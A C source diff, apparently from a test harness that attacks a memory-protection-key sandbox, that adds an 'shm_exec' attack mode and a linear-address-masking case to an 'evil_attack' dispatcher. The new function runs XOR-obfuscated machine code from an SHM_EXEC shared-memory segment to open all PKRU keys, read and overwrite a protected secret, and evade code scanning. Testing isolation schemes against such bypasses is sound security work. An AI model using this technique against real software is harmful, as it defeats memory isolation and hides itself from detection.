@@ -28,6 +28,8 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/rseq.h>
+#include <sys/ipc.h>
+#include <sys/shm.h>
 #include <sys/uio.h>
 #include <unistd.h>
 
@@ -551,6 +553,50 @@ static long rseq_hijack(uintptr_t target, long secret, int own)
 	return 0;
 }
 
+/*
+ * New code without mmap or mprotect: a SysV segment attached writable,
+ * filled with a PKRU writer, and attached again with SHM_EXEC. The code
+ * opens every key, reads and overwrites *target, and puts PKRU back.
+ */
+static long shm_exec(uintptr_t target, long secret)
+{
+	static volatile unsigned char mask = 0x55;
+	static const unsigned char code[] = {
+	    0x31 ^ 0x55, 0xc9 ^ 0x55,                           /* xor %ecx,%ecx */
+	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xee ^ 0x55,              /* rdpkru */
+	    0x41 ^ 0x55, 0x89 ^ 0x55, 0xc0 ^ 0x55,              /* mov %eax,%r8d */
+	    0x31 ^ 0x55, 0xc0 ^ 0x55, 0x31 ^ 0x55, 0xd2 ^ 0x55, /* xor %eax,%eax; xor %edx,%edx */
+	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xef ^ 0x55,              /* wrpkru: every key open */
+	    0x48 ^ 0x55, 0x8b ^ 0x55, 0x37 ^ 0x55,              /* mov (%rdi),%rsi */
+	    0x48 ^ 0x55, 0xc7 ^ 0x55, 0x07 ^ 0x55, 0x9a ^ 0x55, 0x02 ^ 0x55, 0x00 ^ 0x55,
+	    0x00 ^ 0x55,                                                     /* movq $666,(%rdi) */
+	    0x44 ^ 0x55, 0x89 ^ 0x55, 0xc0 ^ 0x55, 0x31 ^ 0x55, 0xd2 ^ 0x55, /* mov %r8d,%eax; xor
+										%edx,%edx */
+	    0x0f ^ 0x55, 0x01 ^ 0x55, 0xef ^ 0x55,                           /* wrpkru: back */
+	    0x48 ^ 0x55, 0x89 ^ 0x55, 0xf0 ^ 0x55, 0xc3 ^ 0x55, /* mov %rsi,%rax; ret */
+	};
+	int id = shmget(IPC_PRIVATE, 4096, IPC_CREAT | 0700); /* x: SHM_EXEC wants it */
+	if (id < 0)
+		return 0;
+	unsigned char *w = shmat(id, NULL, 0);
+	if (w == (void *)-1)
+		return 0;
+	/* Stored xor 0x55, so that no scan of evil's code meets the writer's bytes. */
+	for (size_t i = 0; i < sizeof(code); i++)
+		w[i] = code[i] ^ mask;
+	void *x = shmat(id, NULL, SHM_EXEC | SHM_RDONLY);
+	shmctl(id, IPC_RMID, NULL);
+	if (x == (void *)-1)
+		return 0;
+	long v = ((long (*)(uintptr_t))x)(target);
+	printf("shmat-exec: code at %p (SHM_EXEC) read %#lx\n", x, (unsigned long)v);
+	if (v != secret) {
+		errno = ENOENT;
+		return 0;
+	}
+	return 1;
+}
+
 static void *relay(void *arg)
 {
 	app_hold((int)(intptr_t)arg);
@@ -718,6 +764,12 @@ long evil_attack(int mode, uintptr_t target, uintptr_t len, long secret)
 		return rseq_hijack(target, secret, 0);
 	case 38:
 		return rseq_hijack(target, secret, 1);
+	case 39:
+		return shm_exec(target, secret);
+	case 40: /* linear address masking: tagged addresses the kernel untags (LAM, 6.4 and later)
+		  */
+		r = syscall(SYS_arch_prctl, 0x4002 /* ARCH_ENABLE_TAGGED_ADDR */, 6);
+		break;
 	case 29: /* every stack of every pool free: the next thread gets one in use */
 		for (uint64_t c = 0; c < 16; c++) {
 			size_t n = 0;
